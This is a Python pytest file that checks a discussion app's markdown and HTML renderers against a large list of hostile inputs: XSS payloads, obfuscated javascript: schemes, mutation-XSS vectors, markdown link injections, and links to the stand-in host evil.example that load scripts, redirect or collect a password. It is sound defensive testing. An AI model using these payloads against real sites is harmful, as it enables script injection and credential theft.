"""Hostile texts by class, through both doors; the oracle reads what comes out."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from discuss.rendering import render_html, render_markdown

if TYPE_CHECKING:
    from collections.abc import Callable

ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<style>p{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open>x</dialog>",
    "<template><img src=x onerror=alert(1)></template>",
    "<discuss-thread></discuss-thread>",
    "<slot name=x></slot>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!doctype html><html><body onload=alert(1)>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=https://a.example/x.png onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href=https://a.example onclick=alert(1)>x</a>",
    '<a href="https://a.example"onmouseover="alert(1)">x</a>',
    '<a href="https://a.example/&quot; onclick=alert(1) x=&quot;">x</a>',
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    "<p id=x class=y name=z data-a=b>x</p>",
    "<p autofocus tabindex=1 onfocus=alert(1)>x</p>",
    "<a href=https://a.example target=_blank rel=opener download ping=//evil.example>x</a>",
    "<a name=x id=location>x</a>",
    "<code class='language-x\" onclick=alert(1)'>x</code>",
    "<pre><code class='evil'>x</code></pre>",
    "<ol start=javascript:1 type=a reversed><li value=3>x</ol>",
    "<img srcset=//evil.example sizes=1 src=https://a.example/a.png usemap=#x>",
    "<td background=//evil.example colspan=9999>x</td>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<p\x00onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p a='>' onclick=alert(1)>x</p>",
)

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:123",
    "data:123",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#1;javascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "jav\u00adascript:alert(1)",
    "ｊavascript:alert(1)",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "&#47;&#47;evil.example",
    "http:evil.example",
    "http:///evil.example",
    "http://user@evil.example",
    "http://good.example&#64;evil.example",
    "http://good.example\\@evil.example",
    "https://good.example&bsol;@evil.example",
    "file:///etc/passwd",
    "blob:x",
    "filesystem:x",
    "about:blank",
    "#comment",
    "?x",
    "x",
    "",
)

WRAPPERS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    "[r]\n\n[r]: {} 't'",
    "<{}>",
    "{}",
    "![x]({})",
    "[![x]({})](https://a.example)",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a HREF=" {} ">x</a>',
    '<a xlink:href="{}">x</a>',
    '<img src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}">x</math>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<area href="{}"><base href="{}">',
)

MUTATIONS = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding=text/html><p><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<textarea></p></textarea><img src=x onerror=alert(1)>",
    "<title><p></title><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><p>x</plaintext>",
    "<select><option><style></select><img src=x onerror=alert(1)></style>",
    "<svg><desc><p><![CDATA[</p><img src=x onerror=alert(1)>]]></desc></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<table><a href=https://a.example><tr><td><a href=https://b.example>x</a></td></tr></a></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=https://a.example><p><a href=https://b.example>x</a></p></a>",
    "<p><svg><p><style><!--</style><img src='--><script>alert(1)</script>'>",
    "<b><i><b></i></b><p></i>x",
    "<a title='--><img src=x onerror=alert(1)>' href=https://a.example>x</a>",
    "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' href=https://a.example>x</a>",
    "<img alt='`onerror=alert(1)' src=https://a.example/x>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\x3cscript\x3ealert(1)\x3c/script\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)

MARKDOWN = (
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```a\"onclick='alert(1)'\nx\n```",
    '~~~ language-evil" style=x\nx\n~~~',
    "```&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\nx\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    '[x](https://a.example "\'><script>alert(1)</script>")',
    "[x](https://a.example '\" onclick=\"alert(1)')",
    "[x](https://a.example (a\"b'c<d>&quot;))",
    '[x](https://a.example" onclick="alert(1))',
    "[x](https://a.example/'onclick='alert(1))",
    "[<script>alert(1)</script>](https://a.example)",
    '![" onerror="alert(1)](https://a.example/x.png)',
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "![x](https://a.example/x.png '\" onerror=\"alert(1)')",
    "[a](https://a.example/[b](javascript:alert(1)))",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    '<https://a.example/"onclick=alert(1)>',
    "<https://a.example/<script>alert(1)</script>>",
    "https://a.example/'onclick='alert(1)",
    'https://a.example/"onclick="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    'www.a.example/"onclick=alert(1)',
    "<javascript:alert(1)>",
    '<a@b.example">',
    "|<script>|a|\n|:-:|-|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|",
    "# <script>alert(1)</script>\n\n<script>\n=====",
    "- <script>\n  alert(1)\n  </script>",
    "> <script>alert(1)</script>",
    "<div>\n\n*x*\n\n</div><script>\n\nalert(1)</script>",
    "[r]: javascript:alert(1)\n[r]",
    "[constructor][__proto__]\n\n[__proto__]: javascript:alert(1)",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "*<script>*alert(1)*</script>*",
)

UNFINISHED_TAGS = (
    "<",
    "</",
    "<a",
    "<a ",
    "<a href",
    "<a href=",
    '<a href="',
    "<a href='https://a.example",
    "<!",
    "<!--",
    "<?",
)
UNFINISHED_ELEMENTS = (
    "<b><i>x",
    "<p>x<blockquote>y",
    "<ul><li>x",
    "<table><tr><td>x",
    "<pre><code>x",
    "</b></i></p></a>",
)
UNFINISHED_MARKDOWN = (
    "[",
    "[x]",
    "[x](",
    "[x](https://a.example",
    "[x](<https://a.example",
    "![",
    "`",
    "```",
    "***x",
    "|a|\n|-",
)
UNFINISHED = (*UNFINISHED_TAGS, *UNFINISHED_ELEMENTS, *UNFINISHED_MARKDOWN, "&", "&#", "&#x", "- ", "> ", "\\", "<!-->")

ALL = (
    *ELEMENTS,
    *HANDLERS,
    *MUTATIONS,
    *MARKDOWN,
    *UNFINISHED,
    *(wrapper.replace("{}", scheme) for wrapper in WRAPPERS for scheme in SCHEMES),
)


DOORS = {"markdown": render_markdown, "html": render_html}


@pytest.mark.parametrize("images", [False, True])
@pytest.mark.parametrize("door", DOORS)
def test_hostile_texts_come_out_harmless(safe: Callable[[str], tuple[str, ...]], door: str, *, images: bool) -> None:
    for text in ALL:
        rendered = DOORS[door](text, images=images)
        assert safe(rendered.html) == rendered.links, text
        assert not any("evil.example" in link.partition("?")[0] for link in rendered.links), text


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("wrapper", ["[x]({})", "[x](<{}>)", '<a href="{}">x</a>'])
def test_a_link_that_is_refused_leaves_its_text(wrapper: str, scheme: str) -> None:
    render = render_html if wrapper.startswith("<a") else render_markdown
    rendered = render(wrapper.replace("{}", scheme))
    assert rendered.links == ()
    assert "x" in rendered.html


@pytest.mark.parametrize("text", ELEMENTS + HANDLERS)
def test_html_in_markdown_is_shown_as_it_was_typed(text: str) -> None:
    rendered = render_markdown(f"a {text}")
    assert "&lt;" in rendered.html
